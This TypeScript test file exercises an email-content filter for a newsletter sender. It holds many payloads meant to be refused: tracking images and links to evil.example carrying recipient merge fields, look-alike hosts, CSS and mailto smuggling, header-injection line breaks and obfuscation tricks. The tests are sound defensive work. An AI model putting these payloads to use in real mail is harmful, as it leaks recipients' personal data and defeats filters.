import type { ContentRule } from '@waxseal/policy'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { inspectContent } from '../../src/content/inspect-content.js'

const rule: ContentRule = {
  from: ['news@romashka.ru'],
  replyTo: ['office@romashka.ru'],
  mergeFields: ['to_name', 'UnsubscribeUrl'],
  linkHosts: ['romashka.ru', '*.romashka.ru'],
  imageHosts: ['img.romashka.ru'],
}
const draft = { list: 'spb', from: 'news@romashka.ru', subject: 'Spring' }
const codesOf = (html: string, more: object = {}): string[] => [
  ...new Set(inspectContent({ ...draft, html, ...more }, [rule]).map(({ code }) => code)),
]

describe('an honest letter passes', () => {
  test.each([
    ['plain text', '<p>Здравствуйте, {{to_name}}! Ждём вас с 9.00 до 18.00, т.е. весь день.</p>'],
    ['link', '<a href="https://romashka.ru/spring?utm_source=mail&amp;x=1#top">Spring</a>'],
    ['link of a subdomain', '<a href="https://shop.romashka.ru/">Shop</a>'],
    ['merge field in a query to a granted host', '<a href="https://romashka.ru/?n={{to_name}}">you</a>'],
    ['unsubscribe link', '<a href="{{UnsubscribeUrl}}">Отписаться</a>'],
    ['image', '<img src="https://img.romashka.ru/a.png" alt="Весна" width=600>'],
    ['inline image', '<img src="data:image/png;base64,iVBORw0KGgo="><img src="cid:logo">'],
    ['phone link', '<a href="tel:+78120000000">+7 812 000-00-00</a>'],
    ['mail link to the house', '<a href="mailto:office@romashka.ru?subject=Hi">write</a> office@romashka.ru'],
    [
      'style sheet',
      '<style>@media (max-width:600px){.a{color:red}}</style><p style="background:url(https://img.romashka.ru/b.png)">x</p>',
    ],
    [
      'Outlook conditional comment',
      '<!--[if mso]><table><tr><td><v:rect href="https://romashka.ru"></v:rect></td></tr></table><![endif]-->',
    ],
    [
      'head of a newsletter',
      '<!doctype html><html xmlns:v="urn:schemas-microsoft-com:vml"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"><title>News</title></head><body><p>Hi</p></body></html>',
    ],
    ['plain comment', '<!-- header starts here --><p>x</p>'],
  ])('%s', (_name, html) => {
    expect(inspectContent({ ...draft, html }, [rule])).toEqual([])
  })
})

describe('a letter that would carry addresses out is refused', () => {
  test.each([
    ['tracking image of a stranger', '<img src="https://evil.example/?e={{to_name}}">', ['image-host']],
    ['merge field that no grant names', '<p>{{Email}}</p>', ['merge-field']],
    ['image with an address in it', '<img src="https://evil.example/?e={{Email}}">', ['merge-field', 'image-host']],
    ['link host', '<a href="https://evil.example/">x</a>', ['link-host']],
    ['look-alike host', '<a href="https://rоmashka.ru/">x</a>', ['link-host']],
    ['granted name as a subdomain of another', '<a href="https://romashka.ru.evil.example/">x</a>', ['link-host']],
    ['granted name as a user name', '<a href="https://romashka.ru@evil.example/">x</a>', ['address-userinfo']],
    ['backslashes', '<a href="https:\\\\evil.example">x</a>', ['address-malformed']],
    ['backslash before a user name', '<a href="https://romashka.ru\\@evil.example/">x</a>', ['address-malformed']],
    ['one slash', '<a href="https:/evil.example">x</a>', ['address-malformed']],
    ['address without a scheme', '<a href="//evil.example/x">x</a>', ['address-malformed']],
    ['line break inside the scheme', '<a href="ht&#10;tps://evil.example/x">x</a>', ['link-host']],
    ['script address', '<a href="javascript:fetch(1)">x</a>', ['address-malformed']],
    ['merge field as host', '<a href="https://{{to_name}}.evil.example/">x</a>', ['merge-field-in-host']],
    ['merge field as whole address', '<a href="{{to_name}}">x</a>', ['address-malformed']],
    ['unsubscribe address as an image', '<img src="{{UnsubscribeUrl}}">', ['address-malformed']],
    ['srcset', '<img srcset="https://img.romashka.ru/1.png 1x, https://evil.example/2.png 2x">', ['image-host']],
    ['background', '<table background="https://evil.example/a.png"></table>', ['image-host']],
    ['css', '<p style="background:url(&quot;https://evil.example/a.png&quot;)">x</p>', ['image-host']],
    ['css escape', '<p style="background:u\\72l(https://evil.example/a.png)">x</p>', ['css-escape']],
    ['css import', '<style>@import "https://evil.example/a.css";</style>', ['css-import', 'css-address']],
    ['css image-set', '<style>p{background:image-set("https://evil.example/a.png" 1x)}</style>', ['css-address']],
    [
      'css url never closed',
      '<style>p{background:url(https://evil.example/a.png</style>',
      ['css-import', 'css-address'],
    ],
    ['form', '<form action="https://evil.example/"><input name=e></form>', ['html-element', 'link-host']],
    ['script', '<script>1</script>', ['html-element']],
    ['frame', '<iframe src="https://evil.example/"></iframe>', ['html-element', 'image-host']],
    [
      'base',
      '<base href="https://evil.example/"><a href="x">x</a>',
      ['html-element', 'link-host', 'address-malformed'],
    ],
    ['refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', ['html-element', 'link-host']],
    ['style sheet link', '<link rel=stylesheet href="https://evil.example/a.css">', ['html-element', 'link-host']],
    ['svg', '<svg><image href="https://evil.example/a.png"/></svg>', ['html-element', 'image-host']],
    ['event handler', '<img src="cid:a" onerror="x()">', ['html-script']],
    ['conditional comment', '<!--[if mso]><img src="https://evil.example/?e={{to_name}}"><![endif]-->', ['image-host']],
    ['unknown attribute', '<td data-bg="https://evil.example/a.png">x</td>', ['link-host']],
    ['vml fill', '<!--[if mso]><v:fill src="https://evil.example/a.png"/><![endif]-->', ['image-host']],
    ['mail link', '<a href="mailto:maria@evil.example?body={{to_name}}">write to me</a>', ['link-host']],
    ['mail link with a copy', '<a href="mailto:office@romashka.ru?bcc=maria@evil.example">write</a>', ['link-host']],
    ['address in the text', '<p>Answer to maria@evil.example.</p>', ['link-host']],
    ['link in the text', '<p>see https://evil.example/?e={{to_name}}.</p>', ['link-host']],
    ['bare host with a merge field', '<p>evil.example/?{{to_name}}</p>', ['link-host']],
    ['merge field before a host', '<p>{{to_name}}.evil.example</p>', ['merge-field-in-host']],
    ['entities hide the braces', '<p>&#123;&#123;Email&#125;&#125;</p>', ['merge-field']],
    ['percent signs hide the braces', '<a href="https://romashka.ru/?%7B%7BEmail%7D%7D">x</a>', ['merge-syntax']],
    ['default value', '<p>{{Email?none}}</p>', ['merge-syntax']],
    ['blanks inside', '<p>{{ to_name }}</p>', ['merge-syntax']],
    ['never closed', '<p>{{to_name</p>', ['merge-syntax']],
    ['template block', '<p>{% for c in contacts %}</p>', ['merge-syntax']],
    ['velocity', '<p>$!{Email}</p>', ['merge-syntax']],
    ['merge field in a comment', '<!-- {{Email}} -->', ['merge-field']],
    ['merge field in a tag', '<p {{Email}}>x</p>', ['merge-field']],
    ['cell outside a table', '<td background="https://evil.example/a.png">', ['image-host']],
    ['entities hide the host', '<td background="https:&#47;&#47;evil.example/a.png">', ['image-host']],
    ['attribute twice', '<img src="https://img.romashka.ru/a" src="https://evil.example/b">', ['html-attribute']],
    ['end tag with an attribute', '</p background="https://evil.example/a.png" x={{Email}}>', ['merge-field']],
  ])('%s', (_name, html, codes) => {
    expect(codesOf(html)).toEqual(expect.arrayContaining(codes))
    expect(codesOf(html).length).toBeGreaterThan(0)
  })

  test('a merge field in the subject, the sender name or the plain text', () => {
    expect(codesOf('<p>x</p>', { subject: 'For {{Email}}' })).toEqual(['merge-field'])
    expect(codesOf('<p>x</p>', { fromName: '{{Email}}' })).toEqual(['merge-field'])
    expect(codesOf('<p>x</p>', { text: '{{Phone}}' })).toEqual(['merge-field'])
  })

  test('a sender or a reply-to of his own', () => {
    expect(codesOf('<p>x</p>', { from: 'maria@evil.example' })).toEqual(['sender'])
    expect(codesOf('<p>x</p>', { replyTo: 'maria@evil.example' })).toEqual(['reply-to'])
    expect(codesOf('<p>x</p>', { from: 'News <news@romashka.ru>' })).toContain('address-malformed')
  })

  test('line breaks in header fields', () => {
    expect(codesOf('<p>x</p>', { subject: 'Spring\r\nBcc: maria@evil.example' })).toContain('header-break')
  })

  test('without a grant that names a sender nothing goes out', () => {
    expect(inspectContent({ ...draft, html: '<p>x</p>' }, []).map(({ code }) => code)).toEqual(['sender'])
  })

  test('two grants do not add up: one of them must allow the whole letter', () => {
    const other: ContentRule = { from: ['news@romashka.ru'], linkHosts: ['partner.example'] }
    const html = '<a href="https://partner.example/">x</a> {{to_name}}'
    expect(inspectContent({ ...draft, html }, [rule, other]).length).toBeGreaterThan(0)
    expect(inspectContent({ ...draft, html: '<a href="https://partner.example/">x</a>' }, [rule, other])).toEqual([])
  })
})

describe('holes that a hostile review found stay closed', () => {
  test.each([
    [
      'srcset, scheme in capitals',
      `<img srcset="https://img.romashka.ru/1.png 1x,HTTPS://evil.example/?e={{to_name}} 2x">`,
    ],
    ['srcset, no scheme', `<img srcset="https://img.romashka.ru/1.png 1x,//evil.example/?e={{to_name}} 2x">`],
    [
      'srcset, broken scheme',
      `<img srcset="https://img.romashka.ru/1.png 1x,ht&#10;tps://evil.example/?e={{to_name}} 2x">`,
    ],
    ['css string, one slash', `<p style='background:image-set("https:/evil.example/?e={{to_name}}" 1x)'>x</p>`],
    ['css string, no slash', `<style>p{background:image-set('https:evil.example/?e={{to_name}}' 1x)}</style>`],
    [
      'vml o:href',
      `<!--[if mso]><v:rect><v:imagedata o:href="file://evil.example/{{to_name}}.png" src="cid:a"/></v:rect><![endif]-->`,
    ],
    ['attribute with //', `<a href="https://romashka.ru/" ping="//evil.example/?e={{to_name}}">x</a>`],
    [
      'mailto second question mark',
      `<a href="mailto:office@romashka.ru?subject=x?&amp;bcc=maria@evil.example&amp;body={{to_name}}">x</a>`,
    ],
    ['mailto semicolon', `<a href="mailto:maria@evil.example;office@romashka.ru?body={{to_name}}">x</a>`],
    ['mailto cc semicolon', `<a href="mailto:office@romashka.ru?cc=m@evil.example;office@romashka.ru">x</a>`],
    ['text, @ at the end', `<p>evil.example/?e={{to_name}}@romashka.ru</p>`],
    ['text, mail address with a tail', `<p>maria@evil.example/</p>`],
    ['text, mail address before another', `<p>maria@evil.example/office@romashka.ru</p>`],
    ['text, dash before', `<p>-evil.example/?e={{to_name}}</p>`],
    ['text, star before', `<p>*evil.example/?e={{to_name}}</p>`],
    ['text, slashes before', `<p>//evil.example/?e={{to_name}}</p>`],
    ['text, ftp', `<p>ftp://evil.example/?e={{to_name}}</p>`],
    ['text, underscore', `<p>a_b.evil.example/?e={{to_name}}</p>`],
    ['text, comment inside', `<p>evil<!-- -->.example/?e={{to_name}}</p>`],
    ['text, comment after the scheme', `<p>https:<!-- -->//evil.example/?e={{to_name}}</p>`],
    ['text, two addresses in one', `<p>https://romashka.ru/»https://evil.example/?e={{to_name}}</p>`],
    ['text, full-width dot', `<p>evil．example/?e={{to_name}}</p>`],
    [
      'srcset, only a comma between',
      `<img srcset="https://img.romashka.ru/1.png,https:evil.example/?e={{to_name}} 2x">`,
    ],
    ['srcset, parenthesis', `<img srcset="https://img.romashka.ru/1.png (,https://evil.example/?e={{to_name}} 2x">`],
    ['css image()', `<style>p{background:image("https:evil.example/?e={{to_name}}")}</style>`],
    ['css src()', `<style>p{background:src('https:/evil.example/')}</style>`],
    ['css string in a variable', `<style>p{--a:"https:evil.example/";background:image-set(var(--a) 1x)}</style>`],
    [
      'css comment signs in strings',
      `<style>p{content:"/*";background:url(https://evil.example/);content:"*/"}</style>`,
    ],
    ['css comment never closed', `<style>p{color:red} /* x</style>`],
    ['css address after a comment', `<style>/* ' */p{background:url(https://evil.example/)}/* ' */</style>`],
    ['css behavior', `<style>p{behavior:x}</style>`],
    ['css other escape', `<style>p{width:1px\\9 x}</style>`],
    ['o:althref', `<v:imagedata o:althref="\\\\evil.example\\{{to_name}}.png">`],
    ['unknown attribute, scheme broken by a tab', `<p data-x="ht&#9;tps:evil.example">x</p>`],
    ['unknown attribute, two addresses', `<a ping="https://romashka.ru/ https://evil.example/?e={{to_name}}">x</a>`],
    ['unknown attribute, slash and backslash', `<p data-x="/\\evil.example/">x</p>`],
    ['mailto, not plain', `<a href="mailto:Maria%20%3Cmaria@evil.example%3E%20@romashka.ru">x</a>`],
    ['mailto, percent routing', `<a href="mailto:maria%2540evil.example@romashka.ru">x</a>`],
    [
      'mailto, line break in the subject',
      `<a href="mailto:office@romashka.ru?subject=x%0d%0aBcc:m@evil.example">x</a>`,
    ],
    ['text, break opportunity', `<p>evil<wbr>.example/?e={{to_name}}</p>`],
    ['text, bold', `<p>evil.<b>example</b>/?e={{to_name}}</p>`],
    ['text, span and style', `<p>maria@evil<span>.example</span><style>p{}</style>/</p>`],
    ['text, one node although the line goes on', `<p>maria@evil.example<b>x.romashka.ru</b></p>`],
    ['text, conditional comment inside', `<p>evil<!--[if mso]>.example/<![endif]-->?e={{to_name}}</p>`],
    ['text, soft hyphen', `<p>ev&shy;il.example/?e={{to_name}}</p>`],
    ['text, zero-width blank after the address', `<p>maria@evil.example&#8203;x.romashka.ru</p>`],
    ['text, other script glued to the address', `<p>maria@evil.exampleы.romashka.ru</p>`],
    ['text, compatibility character glued', `<p>maria@evil.example℡x.romashka.ru</p>`],
    ['text, ideographic dot', `<p>evil。example/?e={{to_name}}</p>`],
    ['text, mail address inside a link', `<p>https://romashka.ru/,maria@evil.example</p>`],
    ['text, www inside a link', `<p>https://romashka.ru/,www.evil.example/?e={{to_name}}</p>`],
    ['text, number for a host', `<p>203.0.113.9/?e={{to_name}}</p>`],
    ['text, link without a dot', `<p>https://evil/?e={{to_name}}</p>`],
    ['text, merge field for the last label', `<p>evil.{{to_name}}</p>`],
    ['text, merge field before a known last label', `<p>{{to_name}}.рф {{to_name}}.эвил.рф</p>`],
    ['percent sign before a brace', `<a href="https://romashka.ru/?p=%24!Email">x</a>`],
  ])('refused: %s', (_name, html) => {
    expect(codesOf(html).length).toBeGreaterThan(0)
  })

  test.each([
    [
      'MJML, Stripo, BEE head',
      `<!--[if mso]><noscript><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml></noscript><![endif]-->`,
    ],
    ['image map', `<img usemap="#m" src="cid:a"><map name="m"><area href="https://romashka.ru/" shape="rect"></map>`],
    ['small elements', `<nobr>8 800</nobr><nav>x</nav>`],
    ['kv.m', `<p>15 000 руб./кв.м/год, т.е./т.к.</p>`],
    ['initials', `<p>Иванов И.И./Петров П.П.</p>`],
    ['mail, dash glued', `<p>office@romashka.ru—пишите</p>`],
    ['IE hack', `<style>p{width:100px\\9}</style>`],
    ['css comment', `<style>/* https://romashka.ru */ p{color:red}</style>`],
    ['scroll-behavior', `<style>html{scroll-behavior:smooth}</style>`],
    ['price in a query', `<a href="https://romashka.ru/?p=%24100">x</a>`],
    ['missing blank', `<p>Здравствуйте, {{to_name}}.Мы рады</p>`],
    ['city', `<p>г.{{to_name}}</p>`],
    [
      'bulletproof condition',
      `<!--[if !mso]><!--><p>x</p><!--<![endif]--><!--[if mso | IE]><table><tr><td><![endif]-->`,
    ],
    [
      'srcset with two candidates',
      `<img srcset="https://img.romashka.ru/1.png 1x, https://img.romashka.ru/2.png 1.5x,">`,
    ],
    ['css image-set of addresses', `<style>p{background:image-set(url(https://img.romashka.ru/1.png) 1x)}</style>`],
    ['css string', `<style>p{font-family:'Segoe UI';overscroll-behavior:none}</style>`],
    [
      'attributes of Word',
      `<v:shape o:spid="_x0000_s1" type="#_x0000_t75" style="width:1px" strokeweight=".5pt"></v:shape>`,
    ],
    ['mailto with a text', `<a href="mailto:office@romashka.ru,a+b@romashka.ru?subject=x?&amp;body=a%0d%0ab">x</a>`],
    ['emoji', `<p>Весна \u{1f468}\u200d\u{1f469} ❤\ufe0f &zwnj;&nbsp;&zwnj; 5 000 ₽/мес. до 31.12.2026/01.01.2027</p>`],
    ['question', `<p>Вы были на romashka.com?! Пн.-Пт./Сб.</p>`],
    ['cells', `<table><tr><td>office@romashka.ru</td><td>Телефон</td></tr></table>office@romashka.ru<br>x`],
  ])('passes: %s', (_name, html) => {
    expect(inspectContent({ ...draft, html }, [rule])).toEqual([])
  })

  test('findings are counted up to a hundred', () => {
    const text = Array.from({ length: 600_000 }, (_, index) => `{{a${index}}}`).join('')
    const problems = inspectContent({ ...draft, html: '<p>x</p>', text }, [rule])
    expect(problems.map(({ code }) => code)).toContain('too-many')
    expect(problems.length).toBeLessThanOrEqual(101)
  })
})

describe('hostile input ends soon and is never let through by accident', () => {
  test.each([
    ['open braces', '{{'.repeat(200_000)],
    ['open comments', '<!--'.repeat(100_000)],
    ['deep elements', '<div>'.repeat(80_000)],
    ['formatting elements', '<b id=x><p>'.repeat(2_000)],
    ['css functions', `<style>${'url('.repeat(100_000)}</style>`],
    ['css blanks', `<style>url(${' '.repeat(400_000)}</style>`],
    ['trailing dots', `https://romashka.ru/${'.'.repeat(400_000)}x`],
    ['at signs', '@'.repeat(400_000)],
    ['srcset commas', `<img srcset="${', '.repeat(200_000)}">`],
    ['inline elements', 'a.b<b>'.repeat(70_000)],
    ['links in links', 'https://www.'.repeat(40_000)],
    ['long link of another script', `https://romashka.ru/${'ж'.repeat(400_000)}`],
    ['hosts without end', 'a.bc?'.repeat(90_000)],
    ['question marks', `a.bc${'?'.repeat(400_000)}`],
    ['long host', 'a.'.repeat(200_000)],
    ['conditions', '<!--[if '.repeat(60_000)],
    ['css comments', `<style>${'/**/'.repeat(100_000)}</style>`],
    ['css strings', `<style>${'"/*"'.repeat(100_000)}</style>`],
    ['css image sets', `<style>${'image-set('.repeat(40_000)}</style>`],
    ['srcset descriptors', `<img srcset="a${' 1x'.repeat(150_000)}!">`],
    ['mail link', `<a href="mailto:${'a@b.cd;'.repeat(60_000)}">`],
    ['too long', `<p>${'x'.repeat(500_001)}</p>`],
  ])('%s', (_name, html) => {
    expect(Array.isArray(inspectContent({ ...draft, html, text: html }, [rule]))).toBe(true)
  })

  test('a stranger host written anywhere in random markup is always seen', () => {
    const piece = fc.constantFrom(
      '<p>',
      '</p>',
      '<!--',
      '-->',
      '"',
      "'",
      '<a href=x>',
      '<td ',
      '>',
      ' ',
      'text',
      '<style>',
      '</style>',
      '[if mso]>',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), fc.array(piece, { maxLength: 12 }), (before, after) => {
        const html = `${before.join('')} <img src="https://evil.example/?e={{to_name}}"> ${after.join('')}`
        return inspectContent({ ...draft, html }, [rule]).length > 0
      }),
      { numRuns: 500 },
    )
  })
})
